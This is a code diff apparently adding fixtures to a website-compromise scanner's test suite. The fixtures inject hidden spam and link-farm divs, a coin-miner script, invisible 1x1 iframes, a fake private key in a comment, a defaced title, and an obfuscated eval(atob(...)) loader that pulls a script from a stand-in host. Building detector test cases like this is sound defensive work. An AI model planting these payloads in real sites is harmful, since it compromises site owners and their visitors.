@@ -25,6 +25,11 @@ const LEAKED = `-----BEGIN RSA ${'PRIVATE'} KEY-----\n${'MIIEowIBAAKCAQEAu3Yv9xQ
 const SPAM =
   '<div style="position:absolute;left:-9999px"><a href="https://cheap-pills.example/viagra">buy viagra online</a> <a href="https://cheap-pills.example/cialis">cheap cialis pharmacy</a></div>';
 
+const FARM = 'loans watches essays tyres shoes flats'
+  .split(' ')
+  .map((word) => `<a href="https://${word}.example/">${word}</a>`)
+  .join(' ');
+
 /** What is planted, by a short name. Each is one thing that a person would say in a sentence. */
 const PLANTED = {
   title: without('no title', /<title>.*?<\/title>/),
@@ -89,6 +94,26 @@ const PLANTED = {
   secret: replaced('private key in a comment', '</main>', `<!-- ${LEAKED} -->\n</main>`),
   miner: replaced('coin miner', '</body>', '<script src="https://coinhive.com/lib/coinhive.min.js"></script>\n</body>'),
   spam: beside('hidden pharmacy links', SPAM),
+  decodedLoader: replaced(
+    'script that decodes what it loads',
+    '</body>',
+    `<script>eval(atob("${Buffer.from("var s=document.createElement('script');s.src='https://t.example.net/t.js';document.head.append(s)").toString('base64')}"))</script>\n</body>`,
+  ),
+  packedScript: replaced(
+    'packed script',
+    '</body>',
+    "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,'x'.split('|'),0,{}))</script>\n</body>",
+  ),
+  linkFarm: beside('links to other sites far off the window', `<div style="position:absolute;left:-9999px">${FARM}</div>`),
+  hiddenLinks: beside('links to other sites that are not shown', `<div style="display:none">${FARM}</div>`),
+  plantedFrame: beside(
+    'invisible frame of a bare address',
+    '<iframe src="https://203.0.113.9/in" width="1" height="1" title="Counter" loading="lazy"></iframe>',
+  ),
+  counterFrame: beside(
+    'invisible frame of a counter',
+    '<iframe src="https://count.example.net/in" width="1" height="1" title="Counter" loading="lazy"></iframe>',
+  ),
   defaced: replaced('"Hacked by …" as title', /<title>.*?<\/title>/, '<title>Hacked by ShadowCrew</title>'),
   robotsTxt: {
     name: 'robots.txt closes the site to search engines',
